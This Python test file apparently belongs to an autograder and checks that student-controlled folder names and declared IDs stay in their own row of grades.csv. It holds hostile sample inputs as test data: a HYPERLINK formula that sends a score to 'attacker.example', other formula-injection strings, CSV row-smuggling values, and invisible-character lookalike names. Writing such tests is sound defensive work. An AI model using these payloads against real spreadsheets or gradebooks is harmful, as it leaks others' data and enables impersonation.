"""Can what a student controls (their folder's name, the STUDENT_ID their notebook declares, which
reaches the flags column) corrupt another student's row of the streamed grades.csv, its columns,
or its order? The streamed sheet must be exactly grades_csv of the same results: one row per
student, in the order of the students, every cell where it belongs."""

import csv
import io
import tempfile
import unicodedata
from pathlib import Path

from hypothesis import HealthCheck, given, settings, strategies as st

from autograder.engine.grades_sheet import GradesSheet
from autograder.engine.outputs import GRADES_CSV, grades_csv, points
from autograder.engine.registry import load_config
from autograder.engine.results import SubmissionResult

CONFIG = load_config("lec01_codesign")

# what a folder name may hold: any text without "/" and NUL, and bytes that are not UTF-8
folder_names = st.one_of(
    st.text(st.characters(blacklist_characters="/\0"), min_size=1, max_size=30),
    st.binary(min_size=1, max_size=20).filter(lambda b: b"/" not in b and b"\0" not in b)
    .map(lambda b: b.decode("utf-8", "surrogateescape")),
    st.sampled_from(["=HYPERLINK(\"x\")", "bob\",\"114", "bob\n999", "bob\r", "\"", ",", "\u2028", "\ufeffbob"]),
)
hostile_text = st.one_of(st.text(max_size=40), st.sampled_from(["\n", "\r\n", "\",\"", "\0", "=1+1", "\x1b[2J"]))


def result(student: str, score: float, declared: str) -> SubmissionResult:
    return SubmissionResult(student=student, score=score, max_score=CONFIG.total_points, items=(),
                            isolation="bubblewrap", seconds=0.1, assignment=CONFIG.assignment,
                            variant="v" + str(len(student)), declared_id=declared,
                            flags=(f"notebook declares STUDENT_ID {declared!r}, graded as {student!r} (folder)", declared))


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.dictionaries(folder_names, st.tuples(st.floats(0, 114), hostile_text), min_size=1, max_size=6))
def test_a_student_controlled_name_or_flag_stays_in_its_own_row(students):
    results = [result(name, score, declared) for name, (score, declared) in students.items()]
    with tempfile.TemporaryDirectory() as tmp:
        sheet = GradesSheet(Path(tmp), CONFIG)
        for r in reversed(results):   # arrival order is not the sheet's order
            sheet.add(r)
        rows = sheet.close()
        written = (Path(tmp) / GRADES_CSV).read_bytes()
    assert written == grades_csv(CONFIG, results).encode("utf-8", "surrogateescape")
    parsed = list(csv.reader(io.StringIO(written.decode("utf-8", "surrogateescape"), newline="")))
    ordered = sorted(students)
    assert len(parsed) == 1 + len(ordered) and len(rows) == len(ordered)
    assert all(len(row) == len(parsed[0]) for row in parsed)
    assert len({row[0] for row in parsed[1:]}) == len(ordered)   # no folder is shown as another's
    for row, name in zip(parsed[1:], ordered):
        assert row[1] == points(students[name][0])


LOOKALIKES = [("alice", "alice\x07"), ("alice", "alice\x1b[0m"), ("alice", "\x7falice"),
              ("=1+1", "'=1+1"), ("b\udcffob", "b\\xffob"), ("alice", "alice\u0085"),
              ("alice", "alice\u200b"), ("alice", "\u202ealice"), ("alice", "alice\u2028")]


def test_a_folder_named_like_a_classmate_plus_a_control_character_is_its_own_row():
    """A student who can name their own folder (an exchange where students share a uid, an LMS
    download) names it `alice` plus an invisible character: the cell was cleaned to `alice`, two
    rows named alice, and a gradebook import by name takes whichever comes last."""
    for victim, lookalike in LOOKALIKES:
        results = [result(victim, 114, ""), result(lookalike, 0, "")]
        with tempfile.TemporaryDirectory() as tmp:
            sheet = GradesSheet(Path(tmp), CONFIG)
            for r in results:
                sheet.add(r)
            sheet.close()
            written = (Path(tmp) / GRADES_CSV).read_bytes().decode("utf-8")
        cells = [row[0] for row in csv.reader(io.StringIO(written, newline=""))][1:]
        assert len(set(cells)) == 2, (victim, lookalike, cells)
        # and they look different: nothing invisible (zero-width, bidi marks, separators) is left in
        assert not [c for cell in cells for c in cell if unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp")]
        assert victim in cells or not victim.isalnum()   # an ordinary name is shown as it is


# Where ';' is the list separator (German, French, Italian… Excel and LibreOffice), opening the CSV
# splits every unquoted cell at its ';' (csv quotes only a cell holding ',', '"' or a line break).
SEMICOLON_FORMULAS = ['x;=HYPERLINK("http://attacker.example/?"&B2)', "bob;+1+1", "amy;@SUM(1)", "eve;-2+3"]


def test_no_part_of_a_cell_starts_a_formula_where_semicolon_is_the_list_separator():
    """A student types STUDENT_ID = 'x;=HYPERLINK("http://attacker.example/?"&B2)' (the flags
    column quotes it), or names their folder 'bob;+1+1': csv_cell and student_cell guarded only a
    cell's first character, and a spreadsheet of a ';' locale read the part after the ';' as a
    formula of its own (a link sending a classmate's score away when the instructor clicks it)."""
    results = [result(name, 50, declared) for name, declared in zip(SEMICOLON_FORMULAS, reversed(SEMICOLON_FORMULAS))]
    written = grades_csv(CONFIG, results)
    for cell in (c for row in csv.reader(io.StringIO(written, newline=""), delimiter=";") for c in row):
        assert not cell.startswith(("=", "+", "-", "@")), cell
    names = [row[0] for row in csv.reader(io.StringIO(written, newline=""))][1:]
    assert len(set(names)) == len(SEMICOLON_FORMULAS)   # still one row per student, each its own
